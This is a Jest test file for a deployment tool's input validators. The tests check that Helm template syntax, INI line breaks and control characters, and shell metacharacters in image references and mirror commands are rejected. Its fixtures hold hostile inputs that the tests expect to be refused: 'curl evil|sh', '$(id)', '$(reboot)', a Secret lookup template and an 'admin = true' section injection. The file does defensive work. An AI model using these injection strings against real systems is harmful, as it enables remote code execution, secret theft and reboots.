/**
 * Hostile text never reaches a consumer (issue 17, class 4): image references in the OCI grammar
 * and shell-quoted mirror commands, no control characters or line breaks in INI options, no Helm
 * template syntax where the charts run `tpl` (a table re-derived here from the real charts), and no
 * user value that nulls or retypes a mapping the chart reads.
 */
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { validateProfile } from '../lib/deployment/app';
import { TPL_VALUES } from '../lib/deployment/tpl-values';
import { isImageReference, shellQuote } from '../lib/engine/oci';
import { mirrorCommands } from '../lib/commands/images';
import { aioSimplex } from './support/profiles';
import { deriveTplPaths } from './support/tpl-paths';

const CHARTS = path.resolve(__dirname, '..', '..', 'shared', 'charts');

/** The problems of a profile with these user values (none: the empty list). */
function problems(userOverrides: Record<string, unknown>): string {
  try {
    validateProfile(aioSimplex({ userOverrides }), 'p.yaml');
    return '';
  } catch (error) {
    return (error as Error).message;
  }
}

describe('Helm templates where the charts run tpl', () => {
  (fs.existsSync(CHARTS) ? test : test.skip)('the table is what the real charts pass through tpl (re-derived)', () => {
    const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'tpl-charts-'));
    try {
      const derived = deriveTplPaths(CHARTS, scratch);
      expect(derived.unresolved).toStrictEqual([]);
      expect(derived.paths).toStrictEqual(TPL_VALUES);
    } finally {
      fs.rmSync(scratch, { recursive: true, force: true });
    }
  });

  test('the table holds the paths the issue found (mariadb config_override, extraObjects)', () => {
    expect(TPL_VALUES.mariadb).toContain('conf.database.config_override');
    expect(TPL_VALUES.nova).toContain('extraObjects');
  });

  test.each([
    [
      'mariadb',
      { conf: { database: { config_override: '# {{ printf "INJECTED-%d" 42 }}' } } },
      'userOverrides.mariadb.conf.database.config_override: holds Helm template syntax "{{", and the chart mariadb renders conf.database.config_override with tpl',
    ],
    [
      'nova',
      { extraObjects: ['{{ lookup "v1" "Secret" "openstack" "x" }}'] },
      'userOverrides.nova.extraObjects[0]: holds Helm template syntax',
    ],
    ['nova', { conf: { security: 'ServerTokens {{ .Release.Name }}' } }, 'userOverrides.nova.conf.security: holds Helm template syntax'],
  ])('%s: a template at a tpl path is refused, naming the user value', (release, values, expected) => {
    expect(problems({ [release]: values })).toContain(expected);
  });

  test('template text where no chart runs tpl, and plain text at a tpl path, are accepted', () => {
    expect(problems({ nova: { conf: { nova: { DEFAULT: { my_note: 'braces {{ }} are literal here' } } } } })).toBe('');
    expect(problems({ mariadb: { conf: { database: { config_override: '[mysqld]\nmax_connections = 500\n' } } } })).toBe('');
  });
});

describe('text that reaches an INI file', () => {
  test.each([
    ['a newline', 'a\nb', 'holds a line break; in the INI file the chart writes it would start a new option or [section]'],
    ['a new section', 'x\n]\n[DEFAULT]\nadmin = true', 'holds a line break'],
    ['a carriage return', 'a\rb', 'holds a line break'],
    ['NUL', 'a\u0000b', 'holds the control character U+0000'],
    ['ESC', '\u001b[31mred', 'holds the control character U+001B'],
    ['a C1 control', 'a\u0085b', 'holds the control character U+0085'],
  ])('%s in a nova.conf option is refused, naming the path', (_, value, expected) => {
    expect(problems({ nova: { conf: { nova: { DEFAULT: { my_option: value } } } } })).toContain(
      `userOverrides.nova.conf.nova.DEFAULT.my_option: ${expected}`,
    );
  });

  test.each([
    [
      'a section name with "]"',
      { 'DEFAULT]\n[x': { a: 1 } },
      'userOverrides.nova.conf.nova.DEFAULT]\n[x: the key holds a control character or line break',
    ],
    ['an option name with "="', { DEFAULT: { 'a=b': 1 } }, 'userOverrides.nova.conf.nova.DEFAULT.a=b: the key holds "[", "]" or "="'],
  ])('%s is refused', (_, nova, expected) => {
    expect(problems({ nova: { conf: { nova } } })).toContain(expected);
  });

  test('a control character anywhere in user values is refused, not only in conf', () => {
    expect(problems({ nova: { pod: { user: { nova: { uid: 'x\u0007' } } } } })).toContain(
      'userOverrides.nova.pod.user.nova.uid: holds the control character U+0007',
    );
  });
});

describe('image references', () => {
  test.each([
    ['registry.local:9001/docker.io/starlingx/stx-nova:master-debian-trixie-amd64-stable-latest', true],
    ['docker.io/library/nginx@sha256:' + 'a'.repeat(64), true],
    ['nginx', true],
    ['docker.io/x/y:1;curl evil|sh', false],
    ['docker.io/x/$(id):1', false],
    ['Docker.io/UPPER/repo:1', false],
    ['docker.io/x/y:@IMAGE_PREFIX@-@OS@', false],
    ['docker.io/x/y:1\n', false],
    ['IfNotPresent', false],
  ])('%s: %s', (text, ok) => {
    expect(isImageReference(text)).toBe(ok);
  });

  test.each([
    [
      { images: { tags: { nova_api: 'docker.io/x/y:1; curl evil | sh' } } },
      'userOverrides.nova.images.tags.nova_api: "docker.io/x/y:1; curl evil | sh" is not an image reference',
    ],
    [{ images: { tags: { nova_api: 'not an image' } } }, 'is not an image reference'],
    [
      { pod: { image: { repository: 'x/$(reboot)', tag: '1' } } },
      'userOverrides.nova.pod.image.repository: "x/$(reboot)" is not an image repository',
    ],
    [{ pod: { image: { repository: 'x/y', tag: '1 2' } } }, 'userOverrides.nova.pod.image.tag: "1 2" is not an image tag'],
  ])('non-image text under an image key of user values is refused', (nova, expected) => {
    expect(problems({ nova })).toContain(expected);
  });

  test('the rook-ceph helper image of a profile must be an image reference', () => {
    expect(() => validateProfile(aioSimplex({ images: { rookCephConfigHelper: 'x:1; reboot' } }), 'p.yaml')).toThrow(
      'images.rookCephConfigHelper: expected an image reference registry/repository:tag',
    );
  });

  test('mirror commands refuse what is no image reference, and quote every word', () => {
    expect(() => mirrorCommands(['docker.io/x/y:1;reboot'], 'mirror.local:5000')).toThrow(
      'not image references (the OCI reference grammar registry/repository:tag@digest), so no commands are printed: "docker.io/x/y:1;reboot"',
    );
    expect(() => mirrorCommands(['docker.io/x/y:1'], 'm;reboot')).toThrow('--mirror "m;reboot": expected a registry host[:port][/path]');
    expect(mirrorCommands(['docker.io/x/y:1'], 'mirror.local:5000/')).toStrictEqual([
      'skopeo copy --all docker://docker.io/x/y:1 docker://mirror.local:5000/docker.io/x/y:1',
    ]);
    expect(shellQuote("it's $(x)")).toBe(`'it'\\''s $(x)'`);
  });
});

describe('user values that null or retype what the chart reads', () => {
  test.each([
    ['null over a mapping', { conf: { nova: null } }, 'userOverrides.nova.conf.nova: null replaces the mapping the chart reads here'],
    [
      'a string over a mapping',
      { conf: { nova: 'text' } },
      'userOverrides.nova.conf.nova: a string replaces the mapping the chart reads here',
    ],
    ['a list over a mapping', { endpoints: [] }, 'userOverrides.nova.endpoints: a list replaces the mapping'],
  ])('%s is refused, naming the user value', (_, nova, expected) => {
    expect(problems({ nova })).toContain(expected);
  });

  test('changing a scalar, or adding keys, is accepted', () => {
    expect(problems({ nova: { conf: { nova: { DEFAULT: { debug: true, my_new_option: 'x' } } } } })).toBe('');
  });
});
